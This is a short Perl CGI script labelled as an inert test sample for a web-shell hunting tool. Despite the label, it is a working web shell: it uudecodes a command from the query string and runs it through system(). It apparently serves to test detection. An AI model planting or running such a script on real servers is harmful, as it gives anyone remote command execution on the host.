#!/usr/bin/perl
# webhunt test sample (inert): the command arrives uuencoded in the query string and is decoded
# on its way into system()
print "Content-type: text/plain\n\n";
if ($ENV{'QUERY_STRING'} =~ /^c=(.+)$/) {
    system(unpack("u", $1));
}
